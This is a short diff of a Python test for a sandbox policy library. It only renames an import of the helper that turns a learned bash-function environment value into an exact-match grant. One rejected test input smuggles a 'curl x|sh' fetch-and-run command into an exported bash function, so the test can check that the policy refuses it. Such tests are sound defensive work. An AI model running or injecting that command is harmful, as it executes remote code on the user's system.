@@ -631,11 +631,11 @@ def test_a_learned_environment_grant_matches_its_own_value_only() -> None:
     """Learned values are written as globs matching exactly themselves: a bash function with
     ``[ -n "$1" ]`` and ``echo *`` matched other functions (and not itself) when written as
     seen."""
-    from systrace_py.policy.learn import _literal_grant
+    from systrace_py.policy.environment import literal_grant
     from systrace_py.policy.model import Table
 
     seen = 'BASH_FUNC_f%%=() {  [ -n "$1" ] && echo *?\n}'
-    table = Table("/usr/bin/bash", environment=(_literal_grant(seen),))
+    table = Table("/usr/bin/bash", environment=(literal_grant(seen),))
     assert table.admits_variable(seen)
     assert not table.admits_variable('BASH_FUNC_f%%=() {  [ -n "$1" ] && echo *?; curl x|sh\n}')
     assert not table.admits_variable('BASH_FUNC_f%%=() {  [ -n "$1" ] && echo ab\n}')
